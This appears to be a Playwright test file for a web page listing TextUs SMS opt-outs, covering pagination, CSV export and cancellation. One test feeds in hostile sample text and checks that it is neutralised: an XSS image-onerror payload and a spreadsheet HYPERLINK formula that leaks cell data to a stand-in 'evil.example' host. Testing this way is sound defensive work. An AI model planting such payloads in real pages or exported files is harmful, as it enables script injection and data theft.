import type { Page } from '@playwright/test';

import { readCsv } from './helpers/csv';
import { column } from './helpers/table';
import { expect, test } from './helpers/test';
import { address, asked, expectComplete, incomplete, optOuts, SEARCH, trueCount, trueIds } from './helpers/textus-page';

const COLUMNS =
  'number,msisdn,phone_as_given,created_utc,created_local,time_zone,created_via,user_name,user_email,originating_account,account,id,complete,as_of_utc';

function pager(page: Page) {
  return page.getByRole('navigation', { name: 'Pagination' });
}

async function download(page: Page) {
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download CSV' }).click();
  return readCsv(await downloading);
}

test('leafing through shows every row once; page and size are in the address', async ({ page, server }) => {
  const total = await trueCount(server.url, `?q=${SEARCH}`);
  await page.goto(address(`q=${SEARCH}&size=25`));
  await expectComplete(page, total);
  const seen: string[] = [];
  for (let first = 1; first <= total; first += 25) {
    await expect(pager(page)).toContainText(`${first}–${Math.min(first + 24, total)} of ${total}`);
    seen.push(...(await column(optOuts(page), 'Opted out at')));
    if (first + 25 <= total) await pager(page).getByRole('button', { name: 'Next page' }).click();
  }
  expect(seen.length).toBe(total);
  await expect(pager(page).getByRole('button', { name: 'Next page' })).toHaveAttribute('aria-disabled', 'true');

  await page.reload();
  await expectComplete(page, total);
  await expect(pager(page)).toContainText(`–${total} of ${total}`);
  await pager(page).getByRole('button', { name: 'Previous page' }).click();
  await page.goBack();
  await expect(pager(page)).toContainText(`–${total} of ${total}`);
  await pager(page).getByLabel('Rows per page').selectOption('100');
  await expect(pager(page)).toContainText(`1–100 of ${total}`);
  await expect(page).not.toHaveURL(/[?&]page=/);
});

test('any other filter begins at page 1, and a page that is not there is the last one', async ({ page, server }) => {
  const total = await trueCount(server.url, `?q=${SEARCH}`);
  await page.goto(address(`q=${SEARCH}&size=25&page=999`));
  await expectComplete(page, total);
  await expect(pager(page)).toContainText(`–${total} of ${total}`);
  await page.getByLabel('Account', { exact: true }).selectOption('south_branch');
  await expect(page).not.toHaveURL(/[?&]page=/);
  await expect(pager(page)).toContainText(/^.*1–25 of /);
});

test('CSV holds every row of the account as the vendor has it, and reads back whole', async ({ page, sandbox }) => {
  const truth = await trueIds(sandbox, 'my_account');
  await page.goto(address('size=25'));
  await expectComplete(page, truth.length);
  const csv = await download(page);
  expect(csv.bom).toBe(true);
  expect(csv.name).toMatch(/^textus-opt-outs_my_account_\d{8}T\d{6}Z\.csv$/);
  expect(csv.columns.join(',')).toBe(COLUMNS);
  expect(csv.rows.map((row) => row['id'] ?? '').toSorted()).toEqual(truth);
  expect(new Set(csv.rows.map((row) => row['complete']))).toEqual(new Set(['yes']));
  const sample = csv.rows.find((row) => row['id'] === '/textus/opt_outs/+15553031234');
  expect(sample).toMatchObject({
    number: '+1 555 303 1234',
    msisdn: '15553031234',
    phone_as_given: '5553031234',
    created_utc: '2020-07-30T15:18:52.133Z',
    created_local: '2020-07-30T15:18:52.133+00:00',
    time_zone: 'UTC',
    created_via: 'User',
    originating_account: 'My Account',
    account: 'my_account',
  });
  // No request was made for the file: the list had been read.
  expect((await asked(sandbox)).length).toBe(Math.ceil(truth.length / 25));
});

test('CSV of a list still being read waits for its end, with progress', async ({ page, sandbox, server }) => {
  const total = await trueCount(server.url, `?q=${SEARCH}`);
  await sandbox.set('textus', { latencyMs: 300 });
  await page.goto(address(`q=${SEARCH}`));
  await expect(optOuts(page)).toBeVisible();
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download CSV' }).click();
  await expect(page.getByText(/The CSV is saved when the list has been read to its end/).first()).toBeVisible();
  const csv = await readCsv(await downloading);
  expect(csv.rows.length).toBe(total);
  expect(csv.name).not.toContain('PARTIAL');
});

test('Cancel while the CSV waits saves nothing; what is downloaded then is PARTIAL', async ({ page, sandbox }) => {
  await sandbox.set('textus', { latencyMs: 400 });
  await page.goto(address());
  await expect(optOuts(page)).toBeVisible();
  let saved = 0;
  page.on('download', () => (saved += 1));
  await page.getByRole('button', { name: 'Download CSV' }).click();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(incomplete(page, 'cancelled')).toBeVisible();
  expect(saved).toBe(0);
  const csv = await download(page);
  expect(csv.name).toContain('_PARTIAL_');
  await expect(incomplete(page)).toContainText(`${csv.rows.length} opt-outs read so far`);
  expect(new Set(csv.rows.map((row) => row['complete']))).toEqual(new Set(['no']));
});

test('hostile text is text: on the page, in the panel, in the file', async ({ page, sandbox, server }) => {
  const total = await trueCount(server.url, `?q=${SEARCH}`);
  await sandbox.set('textus', { fault: { kind: 'hostile-text' } });
  await page.goto(address(`q=${SEARCH}`));
  await expectComplete(page, total);
  await expect(page).toHaveTitle(/^TextUs opt-outs/);
  expect(await optOuts(page).locator('img, script, b').count()).toBe(0);
  await expect(optOuts(page)).toContainText('<img src=x onerror="document.title=1">');
  await optOuts(page)
    .getByRole('button', { name: /^Details of/ })
    .first()
    .click();
  await expect(page.getByRole('dialog')).toContainText('(1,048,576 characters)');
  await page.keyboard.press('Escape');
  const csv = await download(page);
  expect(csv.rows.length).toBe(total);
  const users = new Set(csv.rows.map((row) => row['user_name']));
  expect(users).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`);
  for (const cell of csv.rows.flatMap((row) => [row['user_name'], row['user_email'], row['created_via']])) {
    expect(cell?.slice(0, 1)).not.toMatch(/[=+\-@\t\r\n]/);
  }
});

test('Read again asks for the whole list anew and keeps the rows meanwhile', async ({ page, sandbox, server }) => {
  const total = await trueCount(server.url, `?q=${SEARCH}`);
  await page.goto(address(`q=${SEARCH}`));
  await expectComplete(page, total);
  await sandbox.set('textus', { latencyMs: 300 });
  await page.getByRole('button', { name: 'Read again' }).click();
  await expect(page.getByText('The rows below are from an earlier reading.')).toBeVisible();
  await expect(optOuts(page).getByRole('rowheader')).toHaveCount(50);
  await expectComplete(page, total);
  await expect(page.getByText('The rows below are from an earlier reading.')).toHaveCount(0);
});
